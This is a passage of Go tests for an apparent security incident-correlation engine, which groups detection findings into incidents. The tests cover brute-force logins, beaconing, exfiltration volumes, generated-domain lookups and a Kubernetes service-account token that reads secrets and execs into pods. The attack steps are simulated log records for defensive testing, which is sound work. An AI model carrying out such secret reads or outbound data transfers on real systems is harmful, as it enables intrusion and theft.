			if !hasFact(inc, "1 service began to run that had not before on host app: node-metrics.service") || !slices.Contains(inc.Who.Users, "rosa") || !slices.Contains(inc.Techniques, "T1543.002") {
				t.Errorf("%+v", inc)
			}
		}
	}
}

func TestWhatATechniqueFindsOfAHostIsNoPartOfAStoryThere(t *testing.T) {
	w := &world{}
	w.bruteForce(0, 30, 5, "web1", attacker, "deploy")
	login := w.log(200, sshd("web1", attacker, "deploy", "success"))
	var others []string
	for i := range 30 {
		others = append(others, w.log(i, sshd("web1", fmt.Sprintf("198.51.100.%d", i), "root", "failure")))
	}
	f := w.find("Far more failed logins of an account than usual", "low", []string{"T1110"}, []string{"credential-access"}, others...)
	f.Kind, f.Entities.Sources = "rates", nil
	for _, inc := range w.build(t) {
		if slices.Contains(inc.Evidence, login) && slices.Contains(inc.Evidence, others[3]) {
			t.Errorf("others' failures are of the story: %s", inc.Title)
		}
	}
}

func TestCallsOfOneHostToTwoPartiesAreTwoIncidents(t *testing.T) {
	for _, level := range []string{"medium", "low"} {
		testTwoParties(t, level)
	}
}

func testTwoParties(t *testing.T, level string) {
	for to, want := range map[string]int{attacker: 2, stranger: 1} {
		if level == "low" && want == 2 {
			want = 0 // nor does one make the other worth more
		}
		w := &world{ips: []hostAddress{{"app", "10.0.0.5"}}}
		call := record{dataset: "suricata.eve", category: []string{"network"}, types: []string{"connection"}, source: "10.0.0.5", destination: stranger, sentBytes: 900, receivedBytes: 900}
		var ids []string
		for i := range 30 {
			ids = append(ids, w.log(i*300, call))
		}
		w.find("Connections at even intervals", level, []string{"T1071"}, []string{"command-and-control"}, ids...).Kind = "beacon"
		call.destination, call.sentBytes = to, 1<<30
		w.find("Far more data sent out than usual", level, []string{"T1048"}, []string{"exfiltration"}, w.log(4000, call)).Kind = "volume"
		if got := len(w.build(t)); got != want {
			t.Errorf("%s, data to %s: %d incidents, want %d", level, to, got, want)
		}
	}
}

// leases answers as a store that has one DHCP lease.
type leases struct{ id string }

func (l leases) Query(_ context.Context, logsql string, fn func([]event.Field) error) error {
	if !strings.Contains(logsql, "dhcpd.log") {
		return nil
	}
	return fn([]event.Field{{Name: "_time", Value: stamp(at(0))}, {Name: "event.id", Value: l.id}, {Name: "event.dataset", Value: "dhcpd.log"},
		{Name: "event.action", Value: "DHCPACK"}, {Name: "client.ip", Value: "10.0.0.77"}, {Name: "client.mac", Value: "02-00-5E-00-53-01"}, {Name: "client.domain", Value: "ws25"}})
}

func TestAnAddressIsWhoseItWasAtThatTime(t *testing.T) {
	for when, want := range map[int]bool{3600: true, 10 * 86400: false} {
		w := &world{}
		lease := w.log(0, record{dataset: "dhcpd.log", host: "sensor"})
		id := w.log(when, record{dataset: "suricata.eve", category: []string{"network"}, source: "10.0.0.77", destination: stranger})
		f := w.find("Connections at even intervals", "medium", []string{"T1071"}, []string{"command-and-control"}, id)
		g := &group{nodes: []*node{newNode(f, nameHosts(nil), nil, nil, nil)}}
		if err := g.readWhose(t.Context(), &court{store: w, readLinks: linksOf(leases{lease})}); err != nil {
			t.Fatal(err)
		}
		if said(g.footprint, "10.0.0.77 was ws25") != want || cited(g.footprint, lease) != want || slices.Contains(g.at, "ws25") != want {
			t.Errorf("%d s after the lease: %+v", when, g.footprint)
		}
	}
}

func TestACallOfAClusterSaysItselfWhatCameOfIt(t *testing.T) {
	w := &world{}
	const token = "system:serviceaccount:shop:ci"
	call := func(seconds int, verb, object, outcome string) string {
		return w.log(seconds, record{dataset: "kubernetes.audit_logs", category: []string{"configuration"}, types: []string{"access"}, action: verb, object: object, outcome: outcome,
			source: attacker, user: token, url: "/api/v1/" + object})
	}
	first := call(0, "list", "secrets", "success")
	call(5, "list", "nodes", "failure")
	call(10, "create", "pods", "success")
	call(20, "create", "pods/exec", "success")
	w.find("Token of a service account used from outside", "high", []string{"T1078.004"}, []string{"initial-access"}, first)
	inc := w.one(t)
	if inc.Outcome.Result != Succeeded || !hasFact(inc, "1 secret was read") || !hasFact(inc, "1 workload was started") || !hasFact(inc, "1 command was run in a pod") {
		t.Errorf("%+v %+v", inc.Outcome, inc.Impact)
	}
	if !slices.Contains(inc.Techniques, "T1610") || !slices.ContainsFunc(inc.What, func(s Sentence) bool { return strings.Contains(s.Text, "list nodes, refused") }) {
		t.Errorf("%v %v", inc.Techniques, inc.What)
	}
}

func TestWhatASensorSawHappenedOnTheHostThatItSaw(t *testing.T) {
	w := &world{ips: []hostAddress{{"bastion1", "192.0.2.22"}}}
	var ids []string
	for i := range 60 {
		ids = append(ids, w.log(i, record{dataset: "zeek.connection", host: "sensor1", category: []string{"network"}, types: []string{"connection"}, source: attacker, destination: "192.0.2.22", port: "22", sentBytes: 2000, receivedBytes: 2000}))
	}
	w.find("One source connects to a login service without end", "medium", []string{"T1110"}, []string{"credential-access"}, ids...)
	inc := w.one(t)
	if !slices.Equal(inc.Where.Hosts, []string{"bastion1"}) || inc.Outcome.Result != Unknown || len(inc.Outcome.Needs) != 1 || !strings.Contains(inc.Outcome.Needs[0], "authentication log of host bastion1") {
		t.Errorf("%v %+v", inc.Where, inc.Outcome)
	}
}

// beacon is calls of a workstation, in a network of as many computers, after logs of as many hours.
func (w *world) beacon(level string, computers, hours int, source, to string) *analyze.Finding {
	call := record{dataset: "zeek.connection", category: []string{"network"}, types: []string{"connection", "end"}, sentBytes: 900, receivedBytes: 900}
	for i := range computers {
		other := call
		other.source, other.destination = fmt.Sprintf("10.0.9.%d", i), "198.51.100.200"
		w.log(-3600*hours, other)
	}
	call.source, call.destination = source, to
	var ids []string
	for i := range 60 {
		ids = append(ids, w.log(i*90, call))
	}
	f := w.find("Connections at even intervals", level, []string{"T1071"}, []string{"command-and-control"}, ids...)
	f.Kind = "beacon"
	return f
}

func TestShortCallsAreAnIncidentWhereNobodyElseEverCalledThere(t *testing.T) {
	for _, c := range []struct {
		name             string
		computers, hours int
		others, page     bool
		want             int
	}{
		{"one of many computers, after a day", 12, 24, false, false, 1},
		{"of few computers", 3, 24, false, false, 0},
		{"from the first hours of the logs on", 12, 2, false, false, 0},
		{"where another calls too", 12, 24, true, false, 0},
		{"by a page that fetched from others when it opened", 12, 24, false, true, 0},
	} {
		w := &world{}
		w.beacon("low", c.computers, c.hours, "10.0.0.5", stranger)
		if c.others {
			w.log(50, record{dataset: "zeek.connection", category: []string{"network"}, types: []string{"connection", "end"}, source: "10.0.9.1", destination: stranger})
		}
		for i := range 3 {
			if c.page {
				w.log(i, record{dataset: "zeek.connection", category: []string{"network"}, types: []string{"connection", "end"}, source: "10.0.0.5", destination: fmt.Sprintf("198.51.100.%d", 10+i)})
			}
		}
		incs := w.build(t)
		if len(incs) != c.want {
			t.Errorf("%s: %d incidents, want %d", c.name, len(incs), c.want)
		}
		for _, inc := range incs {
			if !said(inc.What, "no other computer of the case contacted the address; none had in the logs of half a day before") || !said(inc.Outcome.Why, "connection came about") {
				t.Errorf("why it is one to look at, and what came of it: %v %v", inc.What, inc.Outcome.Why)
			}
		}
	}
}

// open is a connection that stays open, of which a sensor writes when it begins.
func (w *world) open(level string, seconds int, hours int64, source, to string) *analyze.Finding {
	id := w.log(seconds, record{dataset: "zeek.connection", category: []string{"network"}, types: []string{"connection", "end"}, source: source, destination: to, sentBytes: 9000, receivedBytes: 9000})
	f := w.find("A connection to outside stayed open for hours", level, []string{"T1071"}, []string{"command-and-control"}, id)
	f.Kind, f.Last = "long", f.First+hours*3600e9
	return f
}

func TestSignsAddUpOnlyWhereTheyAreOfTwoThings(t *testing.T) {
	const computer = "10.0.0.5"
	files := func(w *world, source string) {
		var ids []string
		for i := range 20 {
			ids = append(ids, w.log(9000+i, record{dataset: "system.security", host: "dc1", category: []string{"file"}, types: []string{"access"}, outcome: "success", user: "paula", source: source, file: "a"}))
		}
		w.find("far more files than usual", "low", []string{"T1039"}, []string{"collection"}, ids...).Kind = "rates"
	}
	rule := func(w *world, name string, seconds int) {
		id := w.log(seconds, record{dataset: "windows.sysmon_operational", host: "ws5", category: []string{"process"}, types: []string{"start"}, process: "x.exe", command: "x"})
		w.find(name, "low", []string{"T1059"}, []string{"execution"}, id)
	}
	for name, c := range map[string]struct {
		make func(w *world)
		want int
	}{
		"a connection held open alone":                      {func(w *world) { w.open("low", 0, 6, computer, stranger) }, 0},
		"and files read from the same computer":             {func(w *world) { w.open("low", 0, 6, computer, stranger); files(w, computer) }, 1},
		"and files read from another":                       {func(w *world) { w.open("low", 0, 6, computer, stranger); files(w, "10.0.0.6") }, 0},
		"and the bytes of that very connection":             {func(w *world) { bytesOfIt(w.open("low", 0, 6, computer, stranger), w) }, 0},
		"and two rules about the computer":                  {func(w *world) { w.open("low", 0, 6, computer, stranger); rule(w, "a", 60); rule(w, "b", 90) }, 1},
		"and one rule about it":                             {func(w *world) { w.open("low", 0, 6, computer, stranger); rule(w, "a", 60) }, 0},
		"and two rules that match there on each day":        {func(w *world) { w.open("low", 0, 6, computer, stranger); everyDay(w, rule) }, 0},
		"a connection that speaks SSH on the port of HTTPS": {func(w *world) { w.open("low", 0, 6, computer, stranger); w.rs[0].protocol, w.rs[0].port = "ssh", "443" }, 1},
		"a connection that speaks SSH on its own port":      {func(w *world) { w.open("low", 0, 6, computer, stranger); w.rs[0].protocol, w.rs[0].port = "ssh", "22" }, 0},
		"rules alone": {func(w *world) { rule(w, "a", 0); rule(w, "b", 1); rule(w, "c", 2); rule(w, "d", 3); rule(w, "e", 4) }, 0},
		"a program that runs others' code, and calls": {func(w *world) { w.beacon("low", 3, 2, computer, stranger); w.runs("rundll32.exe", computer, stranger) }, 1},
		"a browser that calls":                        {func(w *world) { w.beacon("low", 3, 2, computer, stranger); w.runs("firefox.exe", computer, stranger) }, 0},
	} {
		w := &world{ips: []hostAddress{{"ws5", computer}}}
		c.make(w)
		incs := w.build(t)
		if len(incs) != c.want {
			t.Errorf("%s: %d incidents, want %d", name, len(incs), c.want)
		}
	}
}

func bytesOfIt(f *analyze.Finding, w *world) {
	v := w.find("Far more data sent out than usual", "low", []string{"T1048"}, []string{"exfiltration"}, f.Evidence[0].ID)
	v.Kind = "volume"
}

func everyDay(w *world, rule func(w *world, name string, seconds int)) {
	for day := range 3 {
		rule(w, "a", day*86400+60)
		rule(w, "b", day*86400+90)
	}
}

// runs logs the host's own record of which program called.
func (w *world) runs(program, source, to string) {
	w.log(30, record{dataset: "windows.sysmon_operational", host: "ws5", category: []string{"network"}, types: []string{"connection", "start"}, source: source, destination: to, process: program, executable: `C:\Windows\System32\` + program})
}

func TestASearchForADomainAndTheCallsItLedToAreOneIncident(t *testing.T) {
	for _, c := range []struct {
		after  int // seconds from the search to the first call
		search string
		want   int
	}{{30, "medium", 1}, {3 * 3600, "medium", 1}, {30, "low", 1}, {30, "informational", 1}, {40 * 3600, "medium", 2}} {
		w := &world{}
		var ids []string
		for i := range 20 {
			ids = append(ids, w.log(-c.after-20+i, record{dataset: "dns", category: []string{"network"}, source: "10.0.0.5", destination: "10.0.0.1", name: fmt.Sprintf("x%dq.example", i)}))
		}
		w.find("Lookups of domains with generated names", c.search, []string{"T1568.002"}, []string{"command-and-control"}, ids...).Kind = "generated"
		w.findings[0].Entities.Destinations = nil
		w.beacon("medium", 0, 0, "10.0.0.5", stranger)
		w.beacon("medium", 0, 0, "10.0.0.77", attacker) // somebody else's
		incs := w.build(t)
		if len(incs) != c.want+1 {
			t.Errorf("%s, %d s before: %d incidents", c.search, c.after, len(incs))
		}
		together := slices.ContainsFunc(incs, func(in Incident) bool { return len(in.Findings) == 2 })
		if together != (c.want == 1) {
			t.Errorf("%s, %d s before: together %v", c.search, c.after, together)
		}
	}
}

func TestNamesThatDoNotExistDoNotTellThatASearchFailed(t *testing.T) {
	w := &world{ips: []hostAddress{{"ws5", "10.0.0.5"}}}
	var ids []string
	for i := range 20 {
		ids = append(ids, w.log(i, record{dataset: "zeek.dns", category: []string{"network"}, outcome: "failure", source: "10.0.0.5", destination: "10.0.0.1", name: fmt.Sprintf("x%dq.example", i)}))
	}
	w.find("Lookups of domains with generated names", "medium", []string{"T1568.002"}, []string{"command-and-control"}, ids...).Kind = "generated"
	if inc := w.one(t); inc.Outcome.Result != Unknown || !slices.Equal(inc.Outcome.Needs, []string{processLog("ws5")}) || inc.Impact.Level == "none" {
		t.Errorf("%+v %+v", inc.Outcome, inc.Impact)
	}
}
